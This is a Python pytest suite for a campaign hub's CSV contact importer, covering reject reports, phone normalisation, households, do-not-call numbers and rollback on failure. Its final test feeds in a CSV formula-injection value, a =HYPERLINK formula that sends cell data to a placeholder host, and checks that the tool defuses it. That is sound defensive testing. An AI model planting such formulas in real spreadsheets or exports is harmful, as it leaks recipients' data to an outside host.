"""Contact import: messy real-world CSV in, exact contacts and an exact reject report out."""

from __future__ import annotations

import csv
import io
import os
import pty
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import phonenumbers
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.engine import Engine
from sqlalchemy.exc import OperationalError
from sqlmodel import Session, col, func, select

from sync.hub import migrate
from sync.hub.crud.campaigns import create_campaign, get_or_create_list
from sync.hub.db import make_engine, session_scope
from sync.hub.importing import ImportRefused, import_contacts, normalize_phone, phones
from sync.hub.importing import contacts as importer
from sync.hub.models import CallList, Contact, DoNotCall, Household
from tests.support.hub_process import REPO_ROOT, _subprocess_env, run_hub_cli

DATA = Path(__file__).with_name("data")


@pytest.fixture
def campaign_id(engine: Engine) -> int:
    with session_scope(engine) as session:
        campaign = create_campaign(session, "Import test", 1000)
        assert campaign.id is not None
        return campaign.id


def write_csv(path: Path, text: str) -> Path:
    path.write_bytes(text.encode("utf-8"))
    return path


def contacts_of(engine: Engine) -> list[tuple[str, str, str, str, str, dict[str, str]]]:
    with Session(engine) as session:
        rows = session.exec(
            select(Contact, CallList.name)
            .join(CallList, col(CallList.id) == Contact.call_list_id)
            .order_by(col(Contact.id))
        ).all()
        return [(c.first_name, c.last_name, c.phone, c.timezone, name, c.extra) for c, name in rows]


def count(engine: Engine, model: type) -> int:
    with Session(engine) as session:
        return int(session.exec(select(func.count()).select_from(model)).one())


def test_messy_csv_imports_exactly_the_good_rows_and_reports_every_bad_one(
    engine: Engine, database_url: str, campaign_id: int, tmp_path: Path
) -> None:
    source = shutil.copy(DATA / "messy.csv", tmp_path / "Ohio voters.csv")

    done = run_hub_cli(database_url, "import-contacts", str(campaign_id), str(source))

    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == (
        "imported 5 contacts in 4 households (4 new) into 1 list: Ohio voters (5); rejected 8 rows"
    )
    rejects = [
        (7, "bad phone '555-12'"),
        (8, "missing first name"),
        (9, "missing last name"),
        (10, "duplicate of line 2"),
        (11, "duplicate of line 2"),
        (15, "bad phone '12345678901234567'"),
        (16, "missing phone"),
        (17, "8 fields, the header has 7"),
    ]
    rejects_file = tmp_path / "Ohio voters.rejects.csv"
    # counted by reason, biggest first, with the first lines of each; never a whole row
    assert done.stderr.splitlines() == [
        "rejected 8 rows: 3 bad phone, 2 duplicate, 2 missing name, 1 too many fields",
        *(
            f"  line {line}: {reason}"
            for line, reason in [rejects[i] for i in (0, 5, 6, 3, 4, 1, 2, 7)]
        ),
        f"all rejected rows (with line and reason) are in {rejects_file}",
    ]
    assert "Dayton" not in done.stderr and "unexpected" not in done.stderr
    with rejects_file.open(encoding="utf-8", newline="") as f:
        written = list(csv.reader(f))
    assert written[0] == [
        "First_Name", "Last_Name", "PHONE", "Age", "Precinct", "City", "State", "line", "reason",
    ]  # fmt: skip
    assert [(int(row[7]), row[8]) for row in written[1:]] == rejects
    assert written[1] == ["Bob", "Jones", "555-12", "40", "", "Dayton", "OH", "7", rejects[0][1]]
    assert written[-1] == [
        "Hana", "Kato", "(614) 555-0199", "29", "", "Columbus", "OH", "17", rejects[-1][1],
        "unexpected",
    ]  # fmt: skip

    ohio = {"Age": "34", "Precinct": "P-12", "City": "Columbus", "State": "OH"}
    assert contacts_of(engine) == [
        ("José", "Ñúñez", "+16145550123", "America/New_York", "Ohio voters", ohio),
        # written decomposed (e + combining diaeresis) in the file; stored composed (NFC)
        ("Zoë", "Ñúñez", "+16145550123", "America/New_York", "Ohio voters", ohio | {"Age": "31"}),
        (
            "Ann",
            "Smith, Jr.",
            "+15125550150",
            "America/Chicago",
            "Ohio voters",
            {"Precinct": "Precinct 9\r\nNorth", "City": "Austin", "State": "TX"},
        ),
        (
            "Dan",
            "Park",
            "+12135550177",
            "America/Los_Angeles",
            "Ohio voters",
            {"Age": "52", "City": "Los Angeles", "State": "CA"},
        ),
        ("Eve", "Stone", "+442079460958", "Europe/London", "Ohio voters", {"City": "London"}),
    ]
    with Session(engine) as session:
        households = session.exec(select(Household).order_by(col(Household.id))).all()
        assert [(h.phone, h.timezone, h.state) for h in households] == [
            ("+16145550123", "America/New_York", "open"),
            ("+15125550150", "America/Chicago", "open"),
            ("+12135550177", "America/Los_Angeles", "open"),
            ("+442079460958", "Europe/London", "open"),
        ]
        members = session.exec(
            select(Contact.first_name).where(Contact.household_id == households[0].id)
        ).all()
        assert sorted(members) == ["José", "Zoë"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\x7fELF\x02\x01\x01\x00\x00\x00\xd0\x8f\xff\xfe\n", "line 1 contains a NUL character"),
        (b"\x81\x8d\x8f\n", "line 1 is not UTF-8 text (byte 0x81 at position 1) nor Windows-1252"),
        (b"junk\nmore junk\n", "the header row has no first_name or last_name or phone column"),
        (
            b"first_name,family,phone\nAna,Lopez,614-555-0101\n",
            "the header row has no last_name column (found 'first_name', 'family', 'phone'); "
            "first_name, last_name and phone are required; name the columns with --map",
        ),
        (b"", "the file is empty"),
        (
            b'first_name,last_name,phone\nAna,Lopez,614-555-0101\n"Bo,Diaz,614-555-0102\n',
            "line 3: not readable as CSV (a quoted field starting here is never closed)",
        ),
        (b"first_name,Phone,last_name,PHONE\n", "the column 'PHONE' appears twice"),
    ],
    ids=["binary", "not-1252", "junk", "missing-column", "empty", "unclosed-quote", "twice"],
)
def test_an_unusable_file_is_refused_whole_and_nothing_is_stored(
    engine: Engine,
    database_url: str,
    campaign_id: int,
    tmp_path: Path,
    content: bytes,
    message: str,
) -> None:
    source = tmp_path / "list.csv"
    source.write_bytes(content)

    done = run_hub_cli(database_url, "import-contacts", str(campaign_id), str(source))

    assert done.returncode == 2
    assert done.stderr.startswith(f"error: {source}: ")
    assert message in done.stderr
    assert done.stderr.rstrip().endswith("nothing was imported")
    assert "Traceback" not in done.stderr
    assert (count(engine, Contact), count(engine, Household), count(engine, CallList)) == (0, 0, 0)
    assert not (tmp_path / "list.rejects.csv").exists()


def test_list_column_splits_rows_and_an_empty_value_is_rejected(
    engine: Engine, campaign_id: int
) -> None:
    text = (
        "first_name,last_name,phone,state\n"
        "Ana,Lopez,614-555-0101,Ohio\n"
        "Bo,Diaz,512-555-0102,Texas\n"
        "Cy,Lopez,614-555-0101,Ohio\n"
        "Di,Roe,401-555-0103,\n"
        "Ed,Fox,614-555-0101,Texas\n"
    )
    with session_scope(engine) as session:
        report = import_contacts(session, campaign_id, io.StringIO(text), list_column="State")

    assert report.lists == {"Ohio": 2, "Texas": 2}
    assert [(r.line, r.reason) for r in report.rejects] == [(5, "missing State (the list column)")]
    with Session(engine) as session:
        rows = session.exec(
            select(CallList.name, Household.phone, func.count())
            .join(Household, col(Household.call_list_id) == CallList.id)
            .join(Contact, col(Contact.household_id) == Household.id)
            .group_by(CallList.name, Household.phone)
            .order_by(CallList.name, Household.phone)
        ).all()
    # The same phone in two lists is two households; in one list, one household.
    assert [tuple(r) for r in rows] == [
        ("Ohio", "+16145550101", 2),
        ("Texas", "+15125550102", 1),
        ("Texas", "+16145550101", 1),
    ]


def test_a_second_import_reuses_households_and_updates_people_already_there(
    engine: Engine, campaign_id: int
) -> None:
    first = "first_name,last_name,phone\nAna,Lopez,614-555-0101\n"
    with session_scope(engine) as session:
        import_contacts(session, campaign_id, io.StringIO(first), list_name="Ohio")
    second = (
        "first_name,last_name,phone\n"
        "ana,LOPEZ,(614) 555-0101\n"  # the same person
        "Cy,Lopez,+1 614 555 0101\n"  # joins her household
        "Di,Roe,614-555-0103\n"
    )
    with session_scope(engine) as session:
        report = import_contacts(session, campaign_id, io.StringIO(second), list_name="Ohio")

    assert (report.contacts, report.households_created, report.households_reused) == (2, 1, 1)
    assert (report.updated, report.rejects) == (1, [])  # her row changed: spelled as now
    assert [c[:3] for c in contacts_of(engine)] == [
        ("ana", "LOPEZ", "+16145550101"),
        ("Cy", "Lopez", "+16145550101"),
        ("Di", "Roe", "+16145550103"),
    ]
    assert count(engine, Household) == 2
    assert count(engine, CallList) == 1


def test_nothing_importable_exits_2_and_leaves_no_empty_list(
    engine: Engine, database_url: str, campaign_id: int, tmp_path: Path
) -> None:
    source = write_csv(tmp_path / "bad.csv", "first_name,last_name,phone\nAna,,12\n")

    done = run_hub_cli(database_url, "import-contacts", str(campaign_id), str(source))

    assert done.returncode == 2
    assert done.stderr.splitlines() == [
        "rejected 1 row: 1 missing name",
        "  line 2: missing last name; bad phone '12'",
        f"all rejected rows (with line and reason) are in {tmp_path / 'bad.rejects.csv'}",
        f"error: {source}: nothing imported: its one row was rejected",
    ]
    assert count(engine, CallList) == 0


def test_unknown_campaign_and_missing_file_are_clear_errors(
    engine: Engine, database_url: str, tmp_path: Path
) -> None:
    source = write_csv(tmp_path / "x.csv", "first_name,last_name,phone\nAna,Lopez,614-555-0101\n")
    done = run_hub_cli(database_url, "import-contacts", "999", str(source))
    assert (done.returncode, done.stderr) == (
        2,
        f"error: {source}: there is no campaign with id 999; nothing was imported\n",
    )
    done = run_hub_cli(database_url, "import-contacts", "1", str(tmp_path / "nope.csv"))
    assert (done.returncode, done.stderr) == (2, f"error: {tmp_path / 'nope.csv'}: no such file\n")


def test_a_database_failure_midway_stores_nothing(
    engine: Engine,
    database_url: str,
    campaign_id: int,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    rows = "".join(f"P{n},Q,614-555-{n:04d}\n" for n in range(100, 110))
    source = write_csv(tmp_path / "ten.csv", "first_name,last_name,phone\n" + rows)
    monkeypatch.setattr(importer, "CHUNK_ROWS", 3)  # several chunks reach the database
    real_flush = importer._Import._flush
    calls = []

    def failing_flush(self: importer._Import) -> None:
        calls.append(1)
        if len(calls) == 3:
            raise OperationalError("INSERT", {}, Exception("disk I/O error"))
        real_flush(self)

    monkeypatch.setattr(importer._Import, "_flush", failing_flush)

    done = run_hub_cli(database_url, "import-contacts", str(campaign_id), str(source))

    assert done.returncode == 2
    assert "the database refused the import" in done.stderr
    assert "nothing was imported" in done.stderr
    assert (count(engine, Contact), count(engine, Household), count(engine, CallList)) == (0, 0, 0)


def test_do_not_call_numbers_are_imported_but_never_open(engine: Engine, campaign_id: int) -> None:
    with session_scope(engine) as session:
        session.add(DoNotCall(phone="+16145550101"))
    text = "first_name,last_name,phone\nAna,Lopez,614-555-0101\nBo,Diaz,614-555-0102\n"
    with session_scope(engine) as session:
        report = import_contacts(session, campaign_id, io.StringIO(text), list_name="Ohio")
    assert report.do_not_call == 1
    with Session(engine) as session:
        states = session.exec(select(Household.phone, Household.state).order_by(Household.phone))
        assert [tuple(s) for s in states] == [("+16145550101", "dnc"), ("+16145550102", "open")]


def test_import_through_the_real_command_line(
    engine: Engine, database_url: str, campaign_id: int, tmp_path: Path
) -> None:
    source = write_csv(
        tmp_path / "texas.csv",
        "first_name,last_name,phone\r\nAna,Lopez,512 555 0101\r\nBo,Diaz,5125550101\r\n",
    )
    done = run_hub_cli(
        database_url,
        "import-contacts",
        str(campaign_id),
        str(source),
        "--list",
        "Texas",
        subprocess_=True,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == (
        "imported 2 contacts in 1 household (1 new) into 1 list: Texas (2); rejected 0 rows\n"
    )
    assert done.stderr == ""  # not a terminal: no progress bar
    assert not (tmp_path / "texas.rejects.csv").exists()
    assert [c[2:5] for c in contacts_of(engine)] == [
        ("+15125550101", "America/Chicago", "Texas")
    ] * 2


def test_import_refuses_a_list_name_and_a_list_column_together(
    engine: Engine, campaign_id: int
) -> None:
    with Session(engine) as session, pytest.raises(ImportRefused, match="not both"):
        import_contacts(session, campaign_id, io.StringIO(""), list_name="A", list_column="state")


# ---------------------------------------------------------------- phone numbers


@pytest.mark.parametrize(
    ("raw", "e164", "zone"),
    [
        ("(614) 555-0123", "+16145550123", "America/New_York"),  # fictional 555-01xx, Ohio
        ("512.555.0199", "+15125550199", "America/Chicago"),  # fictional, Texas
        ("+1 802 555 0100", "+18025550100", "America/New_York"),  # fictional, Vermont
        ("1-401-555-0150", "+14015550150", "America/New_York"),  # fictional, Rhode Island
        ("+1 800 555 0100", "+18005550100", "America/New_York"),  # toll-free: region's zone
        ("+39 06 1234 5678", "+390612345678", "Europe/Rome"),  # leading zero kept
        ("+44 7400 123456", "+447400123456", "Europe/London"),  # mobile: several zones
    ],
)
def test_numbers_are_normalized_with_their_zone(raw: str, e164: str, zone: str) -> None:
    phone = normalize_phone(raw, "US")
    assert phone is not None
    assert (phone.e164, phone.timezone) == (e164, zone)


@pytest.mark.parametrize("raw", ["555-12", "12345678901234567", "(614) 055-0123", "call me"])
def test_invalid_numbers_are_refused(raw: str) -> None:
    assert normalize_phone(raw, "US") is None


@given(
    plus=st.sampled_from(["", "1", "+1", "1 ", "+1 ", "1-", "+1."]),
    area=st.integers(200, 999),
    exchange=st.integers(200, 999),
    line=st.integers(0, 9999),
    seps=st.sampled_from([("(", ") ", "-"), ("", "-", "-"), ("", ".", "."), ("", "", ""),
                          ("(", ")", "-"), ("", " ", " ")]),
)  # fmt: skip
def test_the_fast_path_parses_exactly_like_phonenumbers(
    plus: str, area: int, exchange: int, line: int, seps: tuple[str, str, str]
) -> None:
    raw = f"{plus}{seps[0]}{area}{seps[1]}{exchange}{seps[2]}{line:04d}"
    assert phones.parse_phone(raw, "US") == phonenumbers.parse(raw, "US")


def test_progress_is_reported_by_rows_and_bytes(
    engine: Engine, campaign_id: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(importer, "CHUNK_ROWS", 4)
    rows = "".join(f"P{n},Q,614-555-{n:04d}\n" for n in range(100, 110))
    source = write_csv(tmp_path / "ten.csv", "first_name,last_name,phone\n" + rows)
    seen: list[tuple[int, int, int | None]] = []
    with session_scope(engine) as session:
        import_contacts(
            session,
            campaign_id,
            source,
            progress=lambda p: seen.append((p.rows, p.bytes_read, p.bytes_total)),
        )
    size = source.stat().st_size
    assert [rows for rows, _, _ in seen] == [4, 8, 10]
    assert all(total == size for _, _, total in seen)
    assert seen[-1][1] == size


def test_a_clean_import_removes_an_old_rejects_file(
    engine: Engine, database_url: str, campaign_id: int, tmp_path: Path
) -> None:
    source = write_csv(tmp_path / "x.csv", "first_name,last_name,phone\nAna,Lopez,614-555-0101\n")
    old = tmp_path / "x.rejects.csv"
    old.write_text("first_name,last_name,phone,line,reason\n", encoding="utf-8")
    done = run_hub_cli(database_url, "import-contacts", str(campaign_id), str(source))
    assert done.returncode == 0, done.stderr
    assert not old.exists()


def test_at_a_terminal_a_progress_line_is_shown_and_cleared(
    engine: Engine, database_url: str, campaign_id: int, tmp_path: Path
) -> None:
    rows = "".join(f"P{n},Q,614-555-{n:04d}\n" for n in range(100, 110))
    source = write_csv(tmp_path / "ten.csv", "first_name,last_name,phone\n" + rows)
    command = ["import-contacts", str(campaign_id), str(source)]
    leader, follower = pty.openpty()
    try:
        done = subprocess.run(
            [sys.executable, "-m", "sync.hub", "--database-url", database_url, *command],
            cwd=REPO_ROOT,
            env=_subprocess_env(database_url),
            stdout=subprocess.PIPE,
            stderr=follower,
            timeout=120,
        )
        os.close(follower)
        follower = -1
        terminal = b""
        while True:
            try:
                chunk = os.read(leader, 4096)
            except OSError:  # the child is gone and the terminal drained
                break
            if not chunk:
                break
            terminal += chunk
    finally:
        if follower != -1:
            os.close(follower)
        os.close(leader)
    assert done.returncode == 0
    assert b"\r100%  10 rows  " in terminal
    assert terminal.endswith(b"\r\x1b[K")  # the line is cleared before the summary
    assert done.stdout.startswith(b"imported 10 contacts")


def test_two_imports_adding_the_same_number_at_once_fail_cleanly(
    postgres_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """PostgreSQL only: on SQLite an import holds the database, so no other can interleave."""
    engine = make_engine(postgres_url)
    migrate.upgrade(engine)
    with session_scope(engine) as session:
        campaign = create_campaign(session, "Race", 10)
        assert campaign.id is not None
        campaign_id = campaign.id
        get_or_create_list(session, campaign_id, "x")  # the list both imports fill
    real_list = importer._Import._list

    def list_then_race(self: importer._Import, name: str) -> importer._ListState:
        state = real_list(self, name)  # households known now; another import adds one
        assert state.call_list.id is not None
        with session_scope(engine) as other:
            other.add(
                Household(
                    campaign_id=campaign_id,
                    call_list_id=state.call_list.id,
                    phone="+16145550101",
                    timezone="America/New_York",
                )
            )
        return state

    monkeypatch.setattr(importer._Import, "_list", list_then_race)
    source = write_csv(tmp_path / "x.csv", "first_name,last_name,phone\nAna,Lopez,614-555-0101\n")

    done = run_hub_cli(postgres_url, "import-contacts", str(campaign_id), str(source))

    assert done.returncode == 2
    assert done.stderr == (
        f"error: {source}: another import added the same phone numbers to this list while "
        "this one ran; nothing was imported. Run it again: people already there will be "
        "reported as duplicates.\n"
    )
    assert count(engine, Contact) == 0
    engine.dispose()


def _free_trailing_digits(pattern: str) -> int:
    """How many digits at the end of every match of `pattern` are left free (`\\d`): a
    conservative count over the parsed regular expression."""
    import re._constants as c  # the parser's own node names (3.11+)
    import re._parser as parser

    def is_digit(node: tuple[object, object]) -> bool:
        return node[0] == c.IN and node[1] == [(c.CATEGORY, c.CATEGORY_DIGIT)]

    def trailing(seq: list[tuple[object, object]]) -> int:
        total = 0
        for node in reversed(list(seq)):
            op, av = node
            if is_digit(node):
                total += 1
                continue
            if op in (c.MAX_REPEAT, c.MIN_REPEAT):
                low, high, sub = av  # type: ignore[misc]
                if len(sub) == 1 and is_digit(sub[0]):
                    total += low
                    if low == high:
                        continue
                return total
            if op == c.SUBPATTERN:
                return total + trailing(av[-1])  # type: ignore[index]
            if op == c.BRANCH:
                return total + min(trailing(b) for b in av[1])  # type: ignore[index]
            return total
        return total

    return trailing(list(parser.parse(pattern)))


NUMBER_KINDS = ("general_desc", "fixed_line", "mobile", "toll_free", "premium_rate",
                "shared_cost", "personal_number", "voip", "pager", "uan", "voicemail")  # fmt: skip


def test_north_american_numbers_are_decided_by_their_first_seven_digits() -> None:
    """What lets normalize_phone cache validity and zone by the first seven digits: every
    North American pattern in the installed metadata leaves the last three digits free, and
    the zone prefixes stop at 1 + 6 digits. A phonenumbers upgrade that breaks this fails."""
    from phonenumbers import PhoneMetadata
    from phonenumbers.tzdata import TIMEZONE_DATA

    free = 10 - phones.PREFIX_DIGITS
    for region in phonenumbers.COUNTRY_CODE_TO_REGION_CODE[1]:
        metadata = PhoneMetadata.metadata_for_region(region)
        assert metadata is not None
        for kind in NUMBER_KINDS:
            desc = getattr(metadata, kind, None)
            if desc is not None and desc.national_number_pattern:
                assert _free_trailing_digits(desc.national_number_pattern) >= free, (region, kind)
    assert max(len(k) for k in TIMEZONE_DATA if k.startswith("1")) <= 1 + phones.PREFIX_DIGITS


@given(
    area=st.integers(200, 999),
    exchange=st.sampled_from([200, 246, 521, 555, 606, 876, 999]) | st.integers(200, 999),
    line=st.integers(0, 9999),
)
def test_the_prefix_cache_answers_as_phonenumbers_would(
    area: int, exchange: int, line: int
) -> None:
    # Another number of the same first seven digits fills the cache first (if not yet).
    normalize_phone(f"{area}{exchange}{line // 1000}{(line + 377) % 1000:03d}", "US")
    raw = f"{area}{exchange}{line:04d}"
    cached = normalize_phone(raw, "US")
    number = phonenumbers.parse(raw, "US")
    assert cached == phones._checked(number, "US")


def test_the_rejects_file_is_for_the_owner_only_and_runs_no_formula(
    database_url: str, campaign_id: int, tmp_path: Path
) -> None:
    source = tmp_path / "voters.csv"
    source.write_text(
        "first_name,last_name,phone\n"
        'Ann,"=HYPERLINK(""http://x.example/?""&A1,""click"")",not-a-phone\n'
        "@SUM(A1),Lee,+12\n"
        "Bo,Good,+1 614 555 0100\n",
        encoding="utf-8",
    )
    done = run_hub_cli(database_url, "import-contacts", str(campaign_id), str(source))
    assert done.returncode == 0, done.stderr
    rejects_file = tmp_path / "voters.rejects.csv"
    assert stat.S_IMODE(rejects_file.stat().st_mode) == 0o600
    with rejects_file.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1][1] == '\'=HYPERLINK("http://x.example/?"&A1,"click")'
    assert rows[2][0] == "'@SUM(A1)"
    assert rows[2][2] == "+12"  # a plain number stays as it was
